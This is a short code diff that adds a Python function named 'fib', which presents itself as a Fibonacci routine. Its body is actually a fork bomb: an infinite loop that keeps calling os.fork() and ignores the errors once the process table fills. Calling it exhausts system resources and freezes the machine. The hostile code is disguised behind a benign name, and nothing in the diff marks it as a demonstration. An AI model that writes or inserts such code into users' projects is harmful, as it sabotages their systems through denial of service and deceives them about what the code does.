@@ -1,0 +1,9 @@
+import os
+
+
+def fib(n):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
